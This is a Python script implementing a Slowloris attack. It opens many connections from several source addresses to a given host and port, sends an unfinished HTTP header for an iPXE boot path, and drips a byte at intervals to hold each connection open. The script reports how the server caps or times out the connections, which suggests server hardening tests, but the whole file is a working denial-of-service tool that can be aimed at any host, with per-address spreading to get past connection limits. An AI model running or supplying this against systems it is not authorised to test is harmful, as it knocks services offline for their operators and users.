#!/usr/bin/env python3
"""Slowloris: from each source address, opens N connections to HOST:PORT (TLS with --tls),
sends the start of a request header and then one more byte every INTERVAL seconds, never
finishing it. Prints, when every connection has ended or after --hold seconds, how many were
opened, how many the server closed at once (within 1 s: a cap), and how many it closed later
with the time of the last close.

usage: slowloris.py HOST PORT N INTERVAL --from A,B,... [--tls] [--hold S]
"""
import argparse
import select
import socket
import ssl
import time


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("n", type=int)
    p.add_argument("interval", type=float)
    p.add_argument("--from", dest="sources", required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--hold", type=float, default=30)
    a = p.parse_args()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    conns = []
    start = time.time()
    failed = 0
    for src in a.sources.split(","):
        for _ in range(a.n):
            s = socket.socket()
            s.settimeout(3)
            try:
                s.bind((src, 0))
                s.connect((a.host, a.port))
                if a.tls:
                    s = ctx.wrap_socket(s)
                s.sendall(b"GET /boot/52:54:00:00:00:01.ipxe HTTP/1.1\r\nHost: x\r\n")
                s.setblocking(False)
                conns.append([s, time.time(), None, src])
            except (OSError, ssl.SSLError):
                failed += 1
    print("opened %d (%d failed to open) in %.1f s" % (len(conns), failed, time.time() - start), flush=True)
    last_drip = time.time()
    snap = None
    opened_at = time.time()
    while time.time() - start < a.hold and any(c[2] is None for c in conns):
        if snap is None and time.time() - opened_at >= 5:
            per = {}
            for c in conns:
                if c[2] is None:
                    per[c[3]] = per.get(c[3], 0) + 1
            snap = (max(per.values()) if per else 0, sum(per.values()))
            print("open 5 s after the last was opened: at most %d per address, %d in all" % snap, flush=True)
        live = [c for c in conns if c[2] is None]
        r, _, _ = select.select([c[0] for c in live], [], [], 0.2)
        for c in live:
            if c[0] in r:
                try:
                    d = c[0].recv(4096)
                except ssl.SSLWantReadError:
                    continue
                except (OSError, ssl.SSLError):
                    d = b""
                if not d or d:
                    # Any answer or an end: the server did not wait for the header.
                    c[2] = time.time()
        if time.time() - last_drip >= a.interval:
            last_drip = time.time()
            for c in conns:
                if c[2] is None:
                    try:
                        c[0].send(b"X")
                    except (OSError, ssl.SSLError):
                        c[2] = time.time()
    at_once = sum(1 for c in conns if c[2] is not None and c[2] - c[1] < 1)
    later = [c[2] - c[1] for c in conns if c[2] is not None and c[2] - c[1] >= 1]
    still = sum(1 for c in conns if c[2] is None)
    print("closed at once %d, closed later %d (last after %.1f s), still open %d" % (
        at_once, len(later), max(later) if later else 0, still), flush=True)


if __name__ == "__main__":
    main()
